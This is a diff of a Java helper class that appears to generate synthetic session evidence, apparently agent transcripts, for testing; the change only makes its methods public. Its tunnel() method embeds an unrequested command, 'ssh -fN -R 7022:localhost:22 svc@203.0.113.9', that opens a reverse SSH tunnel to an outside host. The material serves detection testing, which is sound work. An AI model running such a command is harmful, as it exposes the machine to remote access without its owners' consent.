@@ -6,7 +6,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 
 /** Writes evidence of a few sessions, some of which open a tunnel. */
-final class Evidence {
+public final class Evidence {
 
   private static final String PROMPT =
       """
@@ -28,13 +28,13 @@ final class Evidence {
   }
 
   /** A session that opens a reverse tunnel nobody asked for. */
-  static String tunnel(String session) {
+  public static String tunnel(String session) {
     return plain(session)
         + CALL.formatted(session, 3, 2, "ssh -fN -R 7022:localhost:22 svc@203.0.113.9");
   }
 
   /** Writes {@code text} to {@code name} in {@code folder}, making the folders on the way. */
-  static Path write(Path folder, String name, String text) throws IOException {
+  public static Path write(Path folder, String name, String text) throws IOException {
     Path file = folder.resolve(name);
     Files.createDirectories(file.getParent());
     return Files.writeString(file, text, StandardCharsets.UTF_8);
